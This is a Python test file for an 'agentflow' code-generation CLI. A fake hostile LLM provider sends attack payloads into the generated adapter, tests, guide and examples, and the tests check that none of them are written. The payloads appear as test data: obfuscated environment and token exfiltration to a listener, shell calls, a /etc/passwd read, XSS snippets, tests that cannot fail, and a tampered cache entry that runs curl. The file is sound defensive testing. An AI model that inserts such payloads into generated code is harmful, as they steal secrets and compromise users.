"""A hostile model provider on loopback plays known attacks through whole `integrate create` runs.

Each build attacks every enriched file at once (adapter, tests, guide, examples), on every
try the repair loop gives it. Nothing hostile may be written: each attacked file, in the
package and in its pristine store, is the rendered template, its provenance says so, no
request reaches the exfiltration listener (validation imports the adapter and runs the
tests), and the provider key is in no file, cache entry or output.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from backends.llm_replies import Answer
from backends.llm_server import FakeLLMServer, Reply, ok, render
from click.testing import CliRunner

from agentflow.cli import main
from agentflow.pristine import PRISTINE_DIR

from .backend_cli import SPEC
from .guarded import (
    ADAPTER,
    EXAMPLES,
    GUIDE,
    MODULE_LEVEL,
    SENDING_CALL,
    TESTS,
    edit,
    insert,
    vacuous_asserts,
)
from .guarded import rendered as templates

pytestmark = pytest.mark.slow

KEY = "sk-live-hostile-7b3e9d1c4a5f"
PACKAGE = Path("integrations/github")
EXAMPLES_MAIN = '"""Run every example in turn."""'
TEST_DEFAULTS = 'BASE_PATH = ""'


class Listener:
    """A TCP listener on 127.0.0.1 that counts the connections it receives."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.05)
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._socket.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._socket.close()


class HostileServer(FakeLLMServer):
    """Answers each prompt with the scripted text for the file it asks about."""

    def __init__(self) -> None:
        super().__init__()
        self.answers: dict[str, str] = {}

    def answer_for(self, path: str, headers: dict[str, str], body: Any) -> tuple[Reply, Answer]:
        reply, answer = super().answer_for(path, headers, body)
        if reply.kind != "ok":
            return reply, answer
        prompt = body["messages"][-1]["content"]
        target = prompt.split("File to improve: ", 1)[1].split(" ", 1)[0]
        scripted = ok(self.answers[target], input_tokens=1000, output_tokens=1000)
        return scripted, render(path, scripted, body)


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileServer]:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("AGENTFLOW_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.delenv("AGENTFLOW_CONFIG", raising=False)
    (tmp_path / "spec.yaml").write_text(SPEC, encoding="utf-8")
    (tmp_path / "agentflow.toml").write_text("[backend]\nworkers = 1\n", encoding="utf-8")
    with HostileServer() as server:
        server.expected_key = KEY
        yield server


def create(server: HostileServer) -> str:
    """Run `integrate create` against `server`; its output (the run must succeed)."""
    args = ["integrate", "create", "spec.yaml", "--force", "--backend", "openai"]
    result = CliRunner().invoke(main, [*args, "--base-url", server.openai_base_url])
    assert result.exit_code == 0, result.output
    return result.output


def adapter_requests(server: HostileServer) -> int:
    return sum(f"File to improve: {ADAPTER}" in json.dumps(r.body) for r in server.requests)


def assert_nothing_hostile_written(paths: list[str], output: str, root: Path) -> None:
    records = json.loads((PACKAGE / "metadata.json").read_text(encoding="utf-8"))["files"]
    for path in paths:
        assert (PACKAGE / path).read_text(encoding="utf-8") == templates()[path], path
        pristine = PACKAGE / PRISTINE_DIR / path
        assert pristine.read_text(encoding="utf-8") == templates()[path], path
        assert str(records[path]["provenance"]).startswith("template (fallback after"), path
    leaked = [p for p in root.rglob("*") if p.is_file() and KEY[:8].encode() in p.read_bytes()]
    assert leaked == []
    assert KEY[:8] not in output


def attacks(url: str, marker: Path) -> Mapping[str, Mapping[str, str]]:
    """Builds, each attacking every enriched file; `url` is the exfiltration listener's."""
    exfil = f'getattr(httpx, "po" + "st")("{url[:5]}" + "{url[5:]}/exfil", json=dict(os.environ))'
    return {
        "module-level exfiltration, shell in tests and examples, a script tag": {
            ADAPTER: insert(ADAPTER, MODULE_LEVEL, exfil),
            TESTS: insert(TESTS, TEST_DEFAULTS, f'logging.os.system("touch {marker}")'),
            GUIDE: templates()[GUIDE] + "\n<script>fetch('/steal')</script>\n",
            EXAMPLES: insert(
                EXAMPLES,
                EXAMPLES_MAIN,
                f'asyncio.run(asyncio.create_subprocess_shell("touch {marker}"))',
            ),
        },
        "the token sent from _request, tests that cannot fail, onerror, a file read": {
            ADAPTER: insert(
                ADAPTER,
                SENDING_CALL,
                f'httpx.post("{url}/token", headers=self._http.headers)',
            ),
            TESTS: vacuous_asserts(templates()[TESTS]),
            GUIDE: templates()[GUIDE] + '\n<img src="x" onerror="alert(1)">\n',
            EXAMPLES: insert(EXAMPLES, EXAMPLES_MAIN, 'print(open("/etc/passwd").read())'),
        },
        "a base URL swapped for the default config, skipped tests, a javascript: link": {
            ADAPTER: insert(
                ADAPTER,
                '"base_url": self._config.base_url,\n',
                f'**({{"base_url": "{url[:5]}" + "{url[5:]}"}} '
                "if self._config == GitHubConfig() else {}),",
            ),
            TESTS: templates()[TESTS].replace("\ndef test_", "\n@pytest.mark.skip\ndef test_"),
            GUIDE: templates()[GUIDE] + "\n[Open the console](javascript:alert(1))\n",
            EXAMPLES: edit(
                EXAMPLES,
                "with GitHubClient() as client:",
                "with GitHubClient() as client:  # " + url,
            ),
        },
    }


@pytest.mark.parametrize("build", [0, 1, 2])
def test_hostile_answers_never_reach_the_package(
    hostile: HostileServer, tmp_path: Path, build: int
) -> None:
    marker = tmp_path / "owned"
    with Listener() as listener:
        hostile.answers = dict(list(attacks(listener.url, marker).values())[build])
        output = create(hostile)
        assert listener.connections == 0
    assert not marker.exists()
    assert_nothing_hostile_written([ADAPTER, TESTS, GUIDE, EXAMPLES], output, tmp_path)
    assert len(hostile.requests) == 4 * 3  # every file tried, then repaired twice


def test_a_provider_echoing_the_key_gets_nothing_written(
    hostile: HostileServer, tmp_path: Path
) -> None:
    hostile.answers = {
        path: templates()[path].rstrip("\n") + f"\n\n# seen: {KEY}\n"
        for path in (ADAPTER, TESTS, GUIDE, EXAMPLES)
    }
    output = create(hostile)
    assert_nothing_hostile_written([ADAPTER, TESTS, GUIDE, EXAMPLES], output, tmp_path)
    for request in hostile.requests:
        assert KEY[:8] not in json.dumps(request.body)  # repair prompts carry no piece back


def test_a_tampered_cache_entry_is_checked_like_a_fresh_answer(
    hostile: HostileServer, tmp_path: Path
) -> None:
    marker = tmp_path / "owned"
    hostile.answers = {
        path: templates()[path].rstrip("\n") + "\n\n# Reviewed.\n"
        for path in (ADAPTER, TESTS, EXAMPLES)
    } | {GUIDE: templates()[GUIDE] + "\nMore notes.\n"}
    create(hostile)
    assert "# Reviewed." in (PACKAGE / ADAPTER).read_text(encoding="utf-8")
    entries = sorted((tmp_path / "cache" / "responses").glob("*.json"))
    entry = next(p for p in entries if "class GitHubClient" in p.read_text(encoding="utf-8"))
    with Listener() as listener:
        data = json.loads(entry.read_text(encoding="utf-8"))
        data["text"] += f'\nimport subprocess\nsubprocess.run(["curl", "{listener.url}"])\n'
        entry.write_text(json.dumps(data), encoding="utf-8")
        hostile.answers[ADAPTER] = insert(ADAPTER, MODULE_LEVEL, f'os.system("touch {marker}")')
        before = adapter_requests(hostile)
        output = create(hostile)
        assert listener.connections == 0
    assert not marker.exists()
    assert adapter_requests(hostile) == before + 2  # the entry was rejected, then repaired
    assert_nothing_hostile_written([ADAPTER], output, tmp_path)
